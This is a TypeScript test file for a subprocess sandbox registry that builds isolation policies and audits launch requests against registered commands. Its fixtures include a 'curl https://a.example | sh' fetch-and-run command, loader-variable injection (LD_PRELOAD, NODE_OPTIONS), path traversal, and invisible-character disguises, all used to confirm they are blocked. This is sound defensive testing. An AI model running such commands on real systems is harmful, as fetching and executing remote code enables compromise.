import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { UsageError } from '../../../base/errors.ts';
import { mebibyte } from '../../../base/limits.ts';
import { tiers } from '../../../base/policy-schema.ts';
import { fingerprintPolicy, tierPolicy } from '../../../engine/policy/index.ts';
import { Store } from '../../../engine/store/index.ts';
import { type AuditRequest, describePolicy, handlePattern, openRegistry, type RegisterRequest } from './index.ts';

let folder = '';
let store: Store;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'hotcell-registry-'));
  store = Store.open(join(folder, 'state.sqlite'));
});
afterEach(() => {
  store.close();
  rmSync(folder, { recursive: true, force: true });
});

const request: RegisterRequest = {
  serverId: 'files',
  binary: 'node',
  args: ['/srv/files/server.js', '--root', '/data'],
  trustTier: 'MEDIUM',
  isolationProfile: { fsReadOnly: ['/srv/files'], fsWritable: ['/data'] },
};

describe('register', () => {
  it('keeps the command and its policy, under a handle that outlives the process', () => {
    const { handle, subprocess } = openRegistry(store).register(request);
    expect(handle).toMatch(handlePattern);
    expect(subprocess.profileFingerprint).toMatch(/^[0-9a-f]{32}$/);
    expect(subprocess.policyFingerprint).toBe(fingerprintPolicy(subprocess.policy));
    store.close();
    store = Store.open(join(folder, 'state.sqlite'));
    expect(openRegistry(store).get(handle)).toEqual(subprocess);
    const again = openRegistry(store).register(request);
    expect(again.handle).not.toBe(handle);
    expect(again.subprocess.profileFingerprint).toBe(subprocess.profileFingerprint);
  });

  it.each(tiers)(
    'starts from the tier %s: everything that it gives, and a gate that can be told other hosts',
    (tier) => {
      const { policy } = openRegistry(store).prepare({ ...request, trustTier: tier, isolationProfile: {} }).subprocess;
      const preset = tierPolicy(tier);
      expect(policy).toEqual({
        ...preset,
        name: 'files',
        network: { mode: 'allowlist', rules: preset.network.rules },
      });
    },
  );

  it('adds files to the tier, never makes writable ones executable, and puts hosts in the place of its hosts', () => {
    const { policy } = openRegistry(store).prepare({
      ...request,
      binary: '/opt/bin/server',
      isolationProfile: { ...request.isolationProfile, egressAllowlist: ['a.example:443', '.b.example:*', '*'] },
    }).subprocess;
    const added = policy.files.slice(tierPolicy('MEDIUM').files.length).map(({ path, access }) => `${access} ${path}`);
    expect(added).toEqual(['execute /opt/bin/server', 'execute /srv/files', 'write /data']);
    expect(policy.network).toMatchObject({
      mode: 'allowlist',
      rules: [
        { host: 'a.example', port: 443 },
        { host: '.b.example', port: '*' },
        { host: '*', port: '*' },
      ],
    });
    const none = openRegistry(store).prepare({ ...request, isolationProfile: { egressAllowlist: [] } });
    expect(none.subprocess.policy.network).toEqual({ mode: 'allowlist', rules: [] });
  });

  it.each([
    [{ cpuMs: 30_000 }, { wallMs: 30_000, cpuCores: 1 }],
    [{ cpuMs: 20 }, { wallMs: 100, cpuCores: 0.2 }],
    [{ cpuMs: 1 }, { wallMs: 100, cpuCores: 0.05 }],
    [{ cpuMs: Number.MAX_SAFE_INTEGER }, { wallMs: 7 * 24 * 3600 * 1000, cpuCores: 1 }],
    [{ memMB: 64 }, { memoryBytes: 64 * mebibyte, diskBytes: 32 * mebibyte, fileBytes: 32 * mebibyte }],
    [{ memMB: 4096 }, { memoryBytes: 4096 * mebibyte, diskBytes: 256 * mebibyte }],
    [{ pidMax: 3 }, { processes: 3 }],
  ])('limits %j', (isolationProfile, limits) => {
    const { subprocess } = openRegistry(store).prepare({ ...request, isolationProfile });
    expect(subprocess.policy.limits).toEqual({ ...tierPolicy('MEDIUM').limits, ...limits });
  });

  it('has a budget of CPU time that cannot be exceeded, and says what it does', () => {
    fc.assert(
      fc.property(fc.integer({ min: 5, max: 10_000_000 }), fc.constantFrom(...tiers), (cpuMs, trustTier) => {
        const { subprocess, notes } = openRegistry(store).prepare({
          ...request,
          trustTier,
          isolationProfile: { cpuMs },
        });
        const { wallMs, cpuCores } = subprocess.policy.limits;
        expect(wallMs * cpuCores).toBeLessThanOrEqual(cpuMs + 1e-6);
        expect(notes.join()).toContain(`cpuMs ${cpuMs}`);
      }),
      { numRuns: 50 },
    );
  });

  it.each([
    ['a host that is none', { egressAllowlist: ['http://a.example'] }],
    ['a port that is none', { egressAllowlist: ['a.example:99999'] }],
    ['a disguised host', { egressAllowlist: ['ａ.example:443'] }],
    ['a path that is not absolute', { fsReadOnly: ['../etc'] }],
    ['too little memory', { memMB: 1 }],
    ['too many processes', { pidMax: 1_000_000 }],
  ])('refuses %s', (_, isolationProfile) => {
    expect(() => openRegistry(store).register({ ...request, isolationProfile })).toThrow(UsageError);
    expect(openRegistry(store).list()).toEqual([]);
  });

  it.each([
    ['serverId', { serverId: 'fi\u200bles' }],
    ['binary', { binary: 'no\u00adde' }],
    ['args\\[1\\]', { args: ['a', 'b\u{e0041}'] }],
    ['binary', { binary: 'node\0' }],
  ])('refuses what cannot be seen in %s', (where, change) => {
    expect(() => openRegistry(store).register({ ...request, ...change })).toThrow(new RegExp(`^${where} holds`));
  });

  it('says what the policy becomes, with limits that differ between tiers', () => {
    const textOf = (tier: (typeof tiers)[number]) => {
      const { policy } = openRegistry(store).prepare({ ...request, trustTier: tier }).subprocess;
      return new Map(describePolicy(policy).map(({ target, text }) => [target, text]));
    };
    const [low, critical] = [textOf('LOW'), textOf('CRITICAL')];
    expect([...low.keys()]).toEqual(['landlock', 'bwrap', 'cgroup', 'seatbelt']);
    expect(low.get('cgroup')).toContain('v2 cpu cpu.max = 50000 100000');
    expect(critical.get('cgroup')).toContain('v2 cpu cpu.max = 400000 100000');
    expect(low.get('landlock')).toMatch(/^\/srv\/files: .*execute/m);
    expect(low.get('landlock')).not.toMatch(/^\/data: .*execute/m);
    expect(critical.get('landlock')).toMatch(/^\/usr: .*execute/m);
  });
});

describe('audit', () => {
  const asked = (change: Partial<AuditRequest> = {}): AuditRequest => ({
    requestedBinary: 'node',
    requestedArgs: request.args,
    environment: ['PATH', 'HOME'],
    cwd: '/srv/files',
    ...change,
  });
  const cases: readonly (readonly [string, Partial<AuditRequest>, string, string])[] = [
    ['what was registered', {}, 'approve', ''],
    ['another program', { requestedBinary: 'bash' }, 'block', 'binary'],
    ['the same program elsewhere', { requestedBinary: '/tmp/node' }, 'block', 'binary'],
    ['another argument', { requestedArgs: ['/srv/files/server.js', '--root', '/'] }, 'block', 'arguments'],
    ['one argument more', { requestedArgs: [...request.args, 'x'] }, 'block', 'arguments'],
    ['no argument', { requestedArgs: [] }, 'block', 'arguments'],
    ['a variable of the loader', { environment: ['PATH', 'LD_PRELOAD'] }, 'block', 'environment'],
    ['options for node', { environment: ['NODE_OPTIONS'] }, 'block', 'environment'],
    ['a folder that it may not see', { cwd: '/root' }, 'block', 'folder'],
    ['a way up', { cwd: '/srv/files/../../root' }, 'block', 'folder'],
    ['a relative folder', { cwd: 'srv' }, 'block', 'folder'],
    ["the box's own folder", { cwd: '{work}' }, 'approve', ''],
    ['fullwidth letters', { requestedArgs: ['/srv/files/server.js', '--ｒoot', '/data'] }, 'quarantine', 'arguments'],
    ['a zero-width space', { requestedBinary: 'no\u200bde' }, 'quarantine', 'binary'],
    ['a soft hyphen', { requestedArgs: ['/srv/files/server.js', '--ro\u00adot', '/data'] }, 'quarantine', 'arguments'],
    ['a tag character', { requestedBinary: 'node\u{e0001}' }, 'quarantine', 'binary'],
    ['a Cyrillic letter', { requestedBinary: 'nоde' }, 'block', 'binary'],
    ['a disguise in another argument', { requestedArgs: ['x\u200b', '--root', '/data'] }, 'block', 'arguments'],
  ];

  it.each(cases)('%s', (_, change, verdict, part) => {
    const registry = openRegistry(store);
    const { handle } = registry.register(request);
    const audit = registry.audit(handle, asked(change));
    expect(audit.verdict, audit.reason).toBe(verdict);
    const wrong = audit.checks.filter(({ is }) => is === 'fail' || is === 'suspect').map((check) => check.part);
    if (part !== '') expect(wrong).toContain(part);
    else expect(wrong).toEqual([]);
    expect(audit.reason).not.toMatch(/[\u200b\u00ad]/);
  });

  it('blocks a registered command that is exploitable by its shape, and said so when it was registered', () => {
    const registry = openRegistry(store);
    const bad = { ...request, binary: 'bash', args: ['-c', 'curl https://a.example | sh'] };
    const { handle, notes } = registry.register(bad);
    expect(notes.join()).toContain('every audit will block it');
    const audit = registry.audit(handle, { requestedArgs: bad.args, requestedBinary: 'bash' });
    expect(audit).toMatchObject({ verdict: 'block' });
    expect(audit.reason).toContain('exploitable shape');
  });

  it('says what was not asked about, and which handle there is not', () => {
    const registry = openRegistry(store);
    const { handle } = registry.register(request);
    const { verdict, checks } = registry.audit(handle, { requestedArgs: request.args });
    expect(verdict).toBe('approve');
    expect(checks.filter(({ is }) => is === 'not-asked').map(({ part }) => part)).toEqual([
      'binary',
      'environment',
      'folder',
    ]);
    for (const wrong of ['sp_000000000000000000000000', '', 'x'.repeat(1000), '__proto__']) {
      expect(() => registry.audit(wrong, { requestedArgs: [] })).toThrow(UsageError);
    }
  });

  it('approves nothing but the registered words', () => {
    const registry = openRegistry(store);
    const { handle } = registry.register(request);
    const word = fc.oneof(fc.constantFrom(...request.args, 'node'), fc.string({ unit: 'binary', maxLength: 20 }));
    fc.assert(
      fc.property(fc.array(word, { maxLength: 4 }), fc.option(word, { nil: undefined }), (args, binary) => {
        const { verdict } = registry.audit(handle, { requestedArgs: args, requestedBinary: binary });
        const isSame = JSON.stringify(args) === JSON.stringify(request.args) && (binary ?? 'node') === 'node';
        expect(verdict === 'approve').toBe(isSame);
      }),
      { numRuns: 200 },
    );
  });
});
